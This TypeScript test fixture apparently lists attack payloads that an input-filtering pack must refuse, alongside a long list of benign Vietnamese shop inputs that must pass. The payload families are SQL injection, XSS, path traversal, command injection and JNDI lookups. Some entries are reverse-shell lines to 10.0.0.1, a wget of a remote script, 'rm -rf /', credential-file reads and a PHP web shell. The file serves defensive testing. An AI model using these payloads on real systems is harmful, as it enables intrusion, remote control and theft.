/** One payload of each shape the pack must refuse, by family; each is tried in every place, plain and double-encoded. */
export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  sql: [
    `' or '1'='1`, `1' OR 1=1--`, `admin'--`, `admin' #`, `' UNION SELECT null,null--`, `1 UNION ALL SELECT username,password FROM users`,
    `1/**/UNION/**/SELECT/**/1,2,3`, `'; DROP TABLE users;--`, `1; DELETE FROM orders`, `1' AND SLEEP(5)--`, `1 AND 1=1`,
    `' or exists(select 1 from users)--`, `1' and extractvalue(1,concat(0x7e,version()))--`, `'; EXEC xp_cmdshell('dir')--`,
    `1' WAITFOR DELAY '0:0:5'--`, `' || (SELECT version())||'`, `1' ORDER BY 10--`, `x' AND email IS NULL; --`,
    `" or ""="`, `') or ('a'='a`, `1 and (select count(*) from information_schema.tables)>0`, `' or username like '%a%`,
    `1 /*!50000UNION*/ /*!50000SELECT*/ 1`, `'; INSERT INTO users VALUES(1)--`, `1' HAVING 1=1--`, `(select load_file('/x'))`,
  ],
  xss: [
    `<script>alert(1)</script>`, `<ScRiPt src=//x.y/a.js>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `"><script>alert(1)</script>`,
    `javascript:alert(1)`, `JaVaScRiPt:alert(document.cookie)`, `" onmouseover="alert(1)`, `<iframe src="//x">`, `';alert(1)//`,
    `<body onload=alert(1)>`, `<a href="java\tscript:alert(1)">x</a>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `<details open ontoggle=alert(1)>`,
    `{{constructor.constructor('alert(1)')()}}`, `data:text/html;base64,PHNjcmlwdD4=,`, `document.cookie`, `top["al"+"ert"](1)`,
  ],
  traversal: [
    `../../etc/passwd`, `..\\..\\windows\\win.ini`, `/etc/passwd`, `....//....//etc/passwd`, `/proc/self/environ`, `php://filter/convert.base64-encode/resource=index.php`,
    `file:///etc/hosts`, `/var/www/../../etc/shadow`, `http://169.254.169.254/latest/meta-data/`,
  ],
  command: [
    `;id`, `| cat /etc/passwd`, `$(whoami)`, `\`id\``, `127.0.0.1 && ls -la`, `; wget http://x.y/a.sh`, `|nc -e /bin/sh 10.0.0.1 4444`, `;c\\at /e't'c/passwd`,
    `; rm -rf /`, `a;cat\${IFS}/etc/passwd`, `; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, `& ping -n 5 127.0.0.1`, `<?php system($_GET['c']); ?>`, `{{7*7}}`,
  ],
  jndi: [
    `\${jndi:ldap://x.y/a}`, `\${\${lower:j}ndi:ldap://x.y/a}`, `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://x.y/a}`, `\${jndi:dns://x.y}`, `\${env:AWS_SECRET}`,
    `\${j\${k8s:k5:-ND}i:ldap://x.y/a}`,
  ],
}

/** What people and programs really send. */
export const BENIGN: readonly string[] = [
  'Chọn từ 1 đến 5; giá < 200k & mới', 'chọn', 'và/hoặc', 'select hàng', 'union', 'drop', '50% off', `O'Neil`, 'a<b', 'script', 'giảm 50% cho đơn từ 200.000đ',
  '12/3/4 ngõ 5, phường Láng Hạ', 'Số 1, ngách 2/3, hẻm 45/6/7 Nguyễn Trãi, Q.1', 'SKU-12/AB_34.5;XL', 'nguyen.van.a@example.vn', 'https://example.vn/tim-kiem?q=áo+dài&trang=2#ket-qua',
  '**đậm** _nghiêng_ [liên kết](https://example.vn/a_(b)) `mã`', '😀🎉 giao hàng nhanh lắm ❤️', 'Tôi muốn select một cái áo from shop này', 'Western Union chuyển tiền', 'Please select a gift from our shop',
  'union select committee', 'drop table số 5 ở quán cà phê', 'order by 10 giờ sáng', `it's 5 o'clock and 1 is enough`, `"áo" and "quần" đều đẹp`, `'Tắt đèn' and 'Lão Hạc' is great`,
  'giá = 100 hoặc < 50', '1 + 1 = 2', '2 > 1 và 3 < 4', 'x = y or z', 'C++ & C#', 'a && b || c', 'node.js, vue.js', 'JavaScript: The Good Parts', 'học JavaScript: cơ bản',
  'cat là con mèo; dog là con chó', 'id; tên; số điện thoại', 'Hỏi: ls là gì?', 'file báo cáo tháng 5.pdf', 'C:\\Users\\Lan\\Ảnh\\biển.jpg', '../hình/ảnh.png', 'thư mục ...\\abc', 'vân vân.../...',
  `D'Artagnan & "Ba người lính"`, `Rock 'n' roll`, `'60s style -- rẻ`, `"Hello" -- Bob`, '# tiêu đề\n## mục 1\n- ý a\n- ý b', 'Dòng 1\r\nDòng 2\r\n\r\nDòng 4', 'find me at home\ntype: áo\nmore info', '1,5 triệu – 2,3 triệu',
  '<3 <3 yêu shop', ':-) ;-) <(^_^)>', 'size S<M<L', 'T-shirt (size M/L) @ 150k', '#sale #50% #freeship', 'mua 1 tặng 1', '100% cotton; không phai', 'thanh toán qua VNPAY/MoMo', 'Ngày 20/11/2026 09:30', '+84 912 345 678',
  'email: a@b.vn, c@d.vn', 'Hà Nội → TP. Hồ Chí Minh', 'Điều 5 khoản 2 điểm a', 'Nguyễn Thị Ánh Tuyết', 'Trần Đình Phượng', 'Đường Trường Chinh', 'Phở bò $5 & bún chả $4', 'giá $(5) và {10}', 'Tỉ lệ 16:9; 4:3',
  'like và share nhé', 'between 5 and 10 người', 'update ảnh mới', 'insert coin', 'delete giúp em', 'exec tốt lắm', 'null', 'true', '0x1F', 'undefined', 'where are you from', 'having fun', 'alert!', 'confirm giúp mình (gấp)',
  'print (bản in) đẹp', 'onion = hành', 'one=1', 'on sale = giảm giá', 'document về nhà', 'window seat', 'Ôi! Trời ơi, đẹp quá ~~', 'Cần mua gấp: máy ảnh; ống kính; chân máy | giá tốt', 'A|B|C', 'Q&A', 'AT&T', 'R&D; M&A',
  'http://localhost:3000/a?b=c&d=e', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', 'd41d8cd98f00b204e9800998ecf8427e', '550e8400-e29b-41d4-a716-446655440000', 'Mô tả: {"màu":"đỏ","cỡ":"L"}', '[1,2,3]', '{{tên}} ơi', '10:00 - 12:00; 13:00 - 17:00',
  'anh ơi cho em hỏi áo này còn size không ạ?', 'Shop giao hàng ở Cà Mau/Bạc Liêu không?', 'Sản phẩm tốt, đóng gói cẩn thận, sẽ ủng hộ shop lần sau!!!', 'Em đặt 2 cái (1 đen, 1 trắng)', 'hàng "auth" 100%', 'Ø 25 mm × 3,5"', '5\' 10"', '½ kg thịt bò',
]
